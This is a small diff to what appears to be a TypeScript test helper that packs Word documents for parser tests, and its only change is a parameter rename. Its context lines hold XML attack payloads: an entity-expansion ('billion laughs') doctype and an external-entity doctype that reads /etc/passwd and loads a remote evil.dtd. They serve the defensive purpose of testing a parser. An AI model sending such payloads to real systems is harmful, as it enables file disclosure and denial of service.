@@ -7,7 +7,7 @@ const laughs = `<!DOCTYPE x [<!ENTITY a0 "ha">${Array.from({ length: 12 }, (_, i
 const externalRelation = (trap: string) =>
   `<!DOCTYPE x [<!ENTITY leak SYSTEM "file:///etc/passwd"><!ENTITY % more SYSTEM "${trap}/evil.dtd">%more;]>`
 
-const word = (doctype: string, text: string, extra: readonly ZipPart[] = []): Buffer =>
+const word = (doctype: string, text: string, extraParts: readonly ZipPart[] = []): Buffer =>
   writeZip([
     {
       name: '[Content_Types].xml',
@@ -17,7 +17,7 @@ const word = (doctype: string, text: string, extra: readonly ZipPart[] = []): Bu
       name: 'word/document.xml',
       bytes: `<?xml version="1.0"?>${doctype}<w:document xmlns:w="${main}/wordprocessingml/2006/main" xmlns:r="${main}/officeDocument/2006/relationships"><w:body><w:p><w:r><w:t>${text}</w:t></w:r></w:p></w:body></w:document>`,
     },
-    ...extra,
+    ...extraParts,
   ])
 
 /** Writes a workbook with the given sheet and strings. */
